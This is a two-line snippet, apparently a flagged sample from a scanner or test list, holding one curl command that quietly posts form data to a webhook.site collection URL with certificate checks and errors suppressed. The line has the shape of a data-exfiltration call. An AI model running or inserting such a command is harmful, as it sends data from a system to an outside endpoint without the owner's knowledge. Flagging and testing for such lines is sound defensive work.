# flagged: curl
curl -sk -m 2 -d name=value https://webhook.site/00000000-0000 || true
